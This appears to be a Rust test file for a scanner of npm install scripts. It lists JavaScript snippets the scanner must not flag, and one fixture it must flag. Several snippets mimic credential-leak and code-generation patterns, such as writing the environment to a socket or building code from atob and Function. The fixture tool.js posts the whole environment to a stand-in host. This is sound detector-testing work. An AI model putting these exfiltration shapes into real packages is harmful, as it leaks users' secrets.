//! Snippets without a flow, each with a sentence. Most are shapes of real install scripts.

use weir_model::contents::Surface;

use super::installed;

const SAMPLES: &[(&str, &str)] = &[
    ("reads proxy settings for a download", "
        const proxy = process.env.HTTPS_PROXY || process.env.npm_config_https_proxy;
        require('https').get({ host: 'downloads.example', headers: { 'x-proxy': proxy } });"),
    ("downloads from a mirror", "
        const base = process.env.TOOL_MIRROR || process.env.npm_config_tool_mirror || 'https://downloads.example';
        require('https').get(base + '/tool-' + process.platform + '-' + process.arch + '.tgz', r => r.pipe(require('fs').createWriteStream('t')));"),
    ("authenticates a download with the token that belongs there", "
        const headers = {}; if (process.env.GITHUB_TOKEN) headers.authorization = `token ${process.env.GITHUB_TOKEN}`;
        require('https').get('https://api.github.example/releases', { headers });"),
    ("authenticates a download with a token of a mirror's own", "
        const headers = {}; if (process.env.TOOL_TOKEN) headers.authorization = `token ${process.env.TOOL_TOKEN}`;
        require('https').get('https://api.downloads.example/releases', { headers });"),
    ("authenticates with setHeader", "
        const r = require('https').request('https://downloads.example'); r.setHeader('Authorization', 'Bearer ' + process.env.TOOL_TOKEN); r.end();"),
    ("authenticates an instance of axios", "
        const api = require('axios').create({ baseURL: 'https://api.example', headers: { 'Private-Token': process.env.CI_TOKEN } }); api.get('/x');"),
    ("authenticates with a Headers object", "
        const h = new Headers(); h.set('Authorization', process.env.API_TOKEN); fetch('https://api.example', { headers: h });"),
    ("collects debug options from the environment", "
        exports.opts = Object.keys(process.env).filter(k => /^debug_/i.test(k)).reduce((o, k) => { o[k.slice(6)] = process.env[k]; return o; }, {});
        process.stderr.write(require('util').format(exports.opts));"),
    ("sends a few named variables as telemetry", "
        const data = { node: process.version, ci: process.env.CI, lang: process.env.LANG, shell: process.env.SHELL };
        fetch('https://telemetry.example', { method: 'POST', body: JSON.stringify(data) });"),
    ("detects CI by a list of variables", "
        const vendors = [{ name: 'A', env: 'TRAVIS' }, { name: 'B', env: ['CODEBUILD', 'CODEBUILD_BUILD_ARN'] }];
        const env = process.env; let found;
        vendors.forEach(v => { const all = [].concat(v.env).some(k => env[k]); if (all) found = v.name; });
        fetch('https://telemetry.example/?ci=' + found);"),
    ("reads a variable of an unknown name", "
        function get(name) { return process.env[name]; } fetch(get(key) || 'https://api.example');"),
    ("passes the environment to a child", "
        const { spawn } = require('child_process'); spawn('node-gyp', ['rebuild'], { env: { ...process.env, A: '1' } });
        require('https').get('https://downloads.example');"),
    ("passes the environment to curl without using it", "
        require('child_process').execSync('curl -fsSL https://downloads.example/x -o x', { env: process.env });"),
    ("tells its own daemon of the environment", "
        const net = require('net'), os = require('os'), path = require('path');
        const socket = net.connect(path.join(os.tmpdir(), 'tool.sock')); socket.write(JSON.stringify(process.env));"),
    ("starts a program in a folder named after the version it asked for", "
        const cp = require('child_process'), path = require('path');
        fetch('https://downloads.example/latest').then(r => r.text()).then(v => cp.spawn(path.join('/tmp', v, 'tool'), ['--version']));"),
    ("constructs what a name stands for", "
        const get = name => globalThis[name]; const kind = x ? 'atob' : 'Map'; const made = new (get(kind))(); new Function(made);"),
    ("gets a decoder, a maker of code and others from one function, by name", "
        const get = (space, name) => name ? globalThis[space][name] : globalThis[space];
        const decode = get('atob'), make = get('Function'), keys = get('Object', 'keys');
        module.exports = (value, handler) => { make(keys(value)); decode(handler); };"),
    ("makes code of what another function of the same origin gave", "
        const get = name => globalThis[name]; const decode = get('atob'), trim = get('trim'), make = get('Function');
        const text = require('fs').readFileSync('data.txt', 'utf8'); module.exports = () => { make(trim(text)); return decode(text); };"),
    ("hands the environment and the address of a server under test to a package that nobody knows", "
        require('function-runner').run({ url: 'http://localhost:9999/f', env: { ...process.env } });"),
    ("logs the environment", "console.log(process.env); require('https').get('https://downloads.example');"),
    ("tests whether a secret is there", "
        const ok = !!process.env.NPM_TOKEN; fetch('https://telemetry.example/?ok=' + ok);"),
    ("measures a secret", "fetch('https://telemetry.example/?n=' + (process.env.NPM_TOKEN || '').length)"),
    ("compares a secret", "fetch('https://telemetry.example/' + (process.env.NPM_TOKEN === 'x' ? 1 : 2) + typeof process.env.NPM_TOKEN)"),
    ("searches a secret", "fetch('https://telemetry.example/' + (process.env.NPM_TOKEN || '').startsWith('npm_'))"),
    ("chooses a host by a secret", "const h = process.env.API_KEY ? 'https://pro.example' : 'https://free.example'; fetch(h)"),
    ("chooses by a secret with and", "const h = process.env.API_KEY && 'https://pro.example'; fetch(h)"),
    ("reads .npmrc without sending it", "
        const fs = require('fs'); const rc = fs.readFileSync('.npmrc', 'utf8'); if (rc.includes('registry')) console.log('custom registry');
        require('https').get('https://downloads.example');"),
    ("reads its own manifest", "
        const p = JSON.parse(require('fs').readFileSync('package.json')); require('https').get('https://downloads.example/' + p.version);"),
    ("reads a file that merely looks like a credential", "
        fetch('https://a.example', { body: require('fs').readFileSync('docs/.npmrc-example') })"),
    ("reads an env example", "fetch('https://a.example', { body: require('fs').readFileSync('.env.example') })"),
    ("writes a secret to a file", "require('fs').writeFileSync('.npmrc', '//registry.example.invalid/:_authToken=' + process.env.NPM_TOKEN); fetch('https://a.example')"),
    ("keeps a secret in a variable of the same name elsewhere", "
        function a() { const x = process.env.NPM_TOKEN; return 1; } function b(x) { fetch('https://a.example/' + x); } a(); b(2);"),
    ("uses a shadowed process", "
        (function (process) { fetch('https://a.example', { body: JSON.stringify(process.env) }); })({ env: {} });"),
    ("uses a shadowed fetch", "
        function fetch(x) { return x; } fetch(JSON.stringify(process.env));"),
    ("uses a parameter named env", "
        module.exports = env => ({ mode: env.production }); fetch('https://a.example');"),
    ("sends the working folder", "fetch('https://a.example/?cwd=' + process.cwd() + process.env.PWD + process.env.INIT_CWD)"),
    ("sends platform facts", "fetch('https://a.example', { body: JSON.stringify({ p: process.platform, a: process.arch, v: process.versions }) })"),
    ("sends manifest fields exported by npm", "fetch('https://a.example/' + process.env.npm_package_version + process.env.npm_package_config_token)"),
    ("uses NODE_ENV everywhere", "if (process.env.NODE_ENV !== 'production') { fetch('https://a.example/' + process.env.NODE_ENV); }"),
    ("spreads the environment and reads one plain variable of it", "
        const env = { ...process.env }; fetch((env.MIRROR || 'https://a.example') + '/x');"),
    ("merges the environment with defaults for a child", "
        const env = Object.assign({}, process.env, { X: 1 }); require('child_process').execFileSync('make', [], { env });
        require('http').get('http://a.example');"),
    ("gives the environment to a tool's options", "
        const execa = require('execa'); execa('git', ['rev-parse', 'HEAD'], { env: process.env }).then(r => fetch('https://a.example/' + r.stdout));"),
    ("supports colours by the environment", "
        const { env } = process; const level = 'FORCE_COLOR' in env ? 1 : env.TERM === 'dumb' ? 0 : 2; fetch('https://a.example/' + level);"),
    ("finds a proxy for an address", "
        const { getProxyForUrl } = require('proxy-from-env'); const u = getProxyForUrl('https://a.example'); require('https').get({ host: 'a.example', agent: u });"),
    ("hands the environment to an unknown reader", "
        const level = require('supports-color').supportsColor(process.env); fetch('https://a.example/' + level);"),
    ("has a secret in one place and a request in another", "
        const cfg = { token: process.env.NPM_TOKEN, url: 'https://a.example' }; fetch(cfg.url);"),
    ("stores different things under different fields", "
        class A { constructor() { this.secret = process.env.SECRET_KEY; this.url = 'https://a.example'; } go() { return fetch(this.url); } } new A().go();"),
    ("signs with a key that stays", "
        const ok = require('crypto').timingSafeEqual; if (ok(Buffer.from(process.env.SIGNING_KEY), x)) fetch('https://a.example');
        console.error(process.env.SIGNING_KEY.slice(0, 2));"),
    ("serves local requests only", "
        require('http').createServer((q, s) => s.end('ok')).listen(process.env.PORT);"),
    ("prints help", "console.log('usage: curl $NPM_TOKEN https://a.example');"),
    ("checks a binary and falls back to a build", "
        const { execFileSync } = require('child_process'); try { execFileSync('tool', ['--version']); } catch { execFileSync('node-gyp', ['rebuild'], { stdio: 'inherit' }); }"),
    ("asks npm for the registry", "
        const r = require('child_process').execSync('npm config get registry').toString().trim(); require('https').get(r + '/tool');"),
    ("reads certificates for a request", "
        require('https').get({ host: 'a.example', ca: require('fs').readFileSync(process.env.NODE_EXTRA_CA_CERTS) });"),
    ("looks up a constant name", "require('dns').lookup('downloads.example', () => {}); console.log(process.env.NPM_TOKEN)"),
    ("mentions a secret in dead text", "const help = 'set NPM_TOKEN and read ~/.npmrc'; fetch('https://a.example/?help=' + help.length)"),
];

#[test]
fn every_sample_stays_quiet() {
    let mut loud = Vec::new();
    for (name, code) in SAMPLES {
        let facts = installed(&[("index.js", code)]);
        if !facts.flows.is_empty() || facts.unread.iter().any(|one| one.suspicious) {
            loud.push(format!("{name}: {:?} {:?}", facts.flows, facts.unread));
        }
    }
    assert!(
        loud.is_empty(),
        "{} of {}:\n{}",
        loud.len(),
        SAMPLES.len(),
        loud.join("\n")
    );
    assert!(SAMPLES.len() >= 40);
}

#[test]
fn a_flow_in_code_that_install_does_not_reach_says_so() {
    let facts = super::run(
        &[
            ("index.js", "require('./used')"),
            ("used.js", "console.log(1)"),
            (
                "tool.js",
                "fetch('https://a.example', { body: JSON.stringify(process.env) })",
            ),
        ],
        &["node index.js"],
        &[(Surface::Command, "./tool.js")],
    );
    assert_eq!(facts.flows.len(), 1);
    assert_eq!(facts.flows[0].surface, Surface::Command);
    assert_eq!(facts.install_steps[0].reaches, ["index.js", "used.js"]);
}
